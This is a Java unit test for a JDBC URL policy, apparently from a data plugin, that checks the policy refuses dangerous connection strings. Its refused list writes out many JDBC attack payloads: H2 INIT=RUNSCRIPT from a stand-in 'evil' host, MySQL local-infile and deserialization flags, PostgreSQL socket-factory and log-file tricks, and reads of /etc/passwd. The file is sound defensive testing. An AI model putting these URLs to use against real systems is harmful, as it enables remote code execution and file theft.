package io.drawbar.plugin.jdbc;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.drawbar.engine.spi.EngineException;
import java.util.Map;
import java.util.Set;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** No URL and no property makes a driver read a file, run a script or load a class. */
class UrlPolicyTest {
    private static final UrlPolicy POLICY =
            new UrlPolicy(Set.of("jdbc:h2:file:", "jdbc:sqlite:", "jdbc:odd:"), Set.of());

    private static DataSource source(String url, Map<String, String> more) throws EngineException {
        Map<String, String> settings = new TreeMap<>(more);
        settings.put("source.x.url", url);
        return DataSource.read(settings).get("x");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // Scripts and classes through H2's settings, however they are written.
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "jdbc:h2:mem:x;init=CREATE\\;",
                "jdbc:h2:mem:x;TRACE_LEVEL_SYSTEM_OUT=3;INIT=CREATE",
                "jdbc:h2:mem:x;MODE=MySQL;INIT=x",
                "jdbc:h2:mem:x;\u0131NIT=x",
                "jdbc:h2:mem:x;TRACE_LEVEL_FILE=3",
                "jdbc:h2:mem:x;DATABASE_EVENT_LISTENER=a.B",
                "jdbc:h2:mem:x;AUTO_SERVER=TRUE",
                "jdbc:h2:zip:/tmp/x.zip!/y",
                // Files and deserialization through MySQL's parameters.
                "jdbc:mysql://evil:3306/x?allowLoadLocalInfile=true",
                "jdbc:mysql://evil:3306/x?ALLOWLOADLOCALINFILE=true",
                "jdbc:mysql://evil:3306/x?allowUrlInLocalInfile=true",
                "jdbc:mysql://evil:3306/x?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.S",
                "jdbc:mysql://evil:3306/x?%61llowLoadLocalInfile=true",
                "jdbc:mysql://(host=evil,port=3306,allowLoadLocalInfile=true)/x",
                "jdbc:mysql://address=(host=evil)(allowLoadLocalInfile=true)/x",
                "jdbc:mysql:loadbalance://evil/x?loadBalanceStrategy=a.B",
                "jdbc:mysql://evil/x?propertiesTransform=a.B",
                "jdbc:mysql://evil/x?socketFactory=a.B",
                "jdbc:mysql://user:secret@evil/x",
                "jdbc:mysql://evil/x#allowLoadLocalInfile=true",
                "jdbc:mariadb://evil/x?allowLocalInfile=true",
                "jdbc:mariadb://evil/x?galeraAllowedState=x&pool=true",
                // Classes and files through PostgreSQL's parameters.
                "jdbc:postgresql://evil/x?socketFactory=org.springframework.context.support.X&socketFactoryArg=http://e",
                "jdbc:postgresql://evil/x?sslfactory=a.B",
                "jdbc:postgresql://evil/x?loggerLevel=TRACE&loggerFile=/tmp/x.jsp",
                "jdbc:postgresql://evil/x?authenticationPluginClassName=a.B",
                "jdbc:postgresql://evil/x?sslhostnameverifier=a.B",
                "jdbc:postgresql://evil/x?sslkey=/etc/passwd",
                "jdbc:postgresql://evil/x?socket%46actory=a.B",
                "jdbc:postgresql:x?service=y",
                "jdbc:postgresql:x",
                // Files through databases that live in the process.
                "jdbc:duckdb:/etc/passwd",
                "jdbc:duckdb::memory:;session_init_sql_file=/tmp/x.sql",
                "jdbc:duckdb::memory:x;enable_external_access=true",
                "jdbc:duckdb::memory:;allow_unsigned_extensions=true",
                "jdbc:sqlite::resource:http://evil/x.db",
                "jdbc:sqlite:file:/etc/x.db",
                "jdbc:sqlite:/tmp/x.db?enable_load_extension=true",
                "jdbc:sqlite:/tmp/../etc/x.db",
                // What nobody knows.
                "jdbc:db2://evil/x:clientRerouteServerListJNDIName=ldap://evil/x;",
                "jdbc:oracle:thin:@evil",
                "jdbc:odd:x?anything=1",
                "JDBC:H2:mem:x",
                "jdbc:h2:mem:x ",
                "jdbc:clickhouse://evil/x?custom_http_headers=a",
                "jdbc:postgresql://h/x?password=secret"
            })
    void anAttackIsRefused(String url) throws EngineException {
        DataSource source = source(url, Map.of("source.x.trust-sql", "true"));
        EngineException refusal = catchThrowableOfType(EngineException.class, () -> POLICY.check(source));
        assertThat(refusal).isNotNull();
        assertThat(refusal.kind()).isEqualTo(EngineException.Kind.USER);
        assertThat(refusal).hasMessageContaining("data source x").hasMessageNotContaining("secret");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db.example:5432/shop?sslmode=require&ApplicationName=x",
                "jdbc:postgresql://[::1]:5432,other:5432/shop?targetServerType=primary",
                "jdbc:mysql://db:3306/shop?useSSL=true&connectionTimeZone=UTC",
                "jdbc:mariadb://db/shop",
                "jdbc:clickhouse://db:8123/shop?ssl=true",
                "jdbc:ch:https://db:8443/shop",
                "jdbc:duckdb::memory:",
                "jdbc:duckdb::memory:shared",
                "jdbc:sqlite::memory:",
                "jdbc:h2:tcp://db:9092/shop;MODE=PostgreSQL",
                "jdbc:h2:file:/data/shop;IFEXISTS=TRUE",
                "jdbc:sqlite:/data/shop.db",
                "jdbc:odd://host/x"
            })
    void whatIsHarmlessPasses(String url) throws EngineException {
        DataSource source = source(url, Map.of("source.x.trust-sql", "true"));
        assertThatCode(() -> POLICY.check(source)).doesNotThrowAnyException();
    }

    @Test
    void anH2WithinTheProcessIsForTrustedSqlAlone() throws EngineException {
        DataSource source = source("jdbc:h2:mem:x", Map.of());
        EngineException refusal = catchThrowableOfType(EngineException.class, () -> POLICY.check(source));
        assertThat(refusal).hasMessageContaining("source.x.trust-sql");
    }

    @Test
    void aPropertyPassesWhenTheAdministratorAllowsIt() throws EngineException {
        DataSource source = source("jdbc:postgresql://db/shop", Map.of("source.x.property.sslrootcert", "/etc/ca.pem"));
        assertThat(catchThrowableOfType(EngineException.class, () -> POLICY.check(source)))
                .hasMessageContaining("sslrootcert");
        UrlPolicy allowing = new UrlPolicy(Set.of(), Set.of("sslrootcert"));
        assertThatCode(() -> allowing.check(source)).doesNotThrowAnyException();
    }
}
